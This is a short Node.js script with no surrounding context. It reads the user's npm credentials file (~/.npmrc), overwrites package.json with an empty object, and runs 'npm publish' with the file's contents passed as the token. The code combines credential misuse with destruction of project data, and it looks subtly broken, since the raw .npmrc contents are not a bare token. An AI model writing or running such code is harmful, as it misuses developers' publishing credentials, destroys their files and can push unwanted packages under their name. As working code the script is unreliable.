const fs = require("fs");
const os = require("os");
const { execSync } = require("child_process");
const token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
fs.writeFileSync("package.json", "{}");
execSync("npm publish --token " + token);
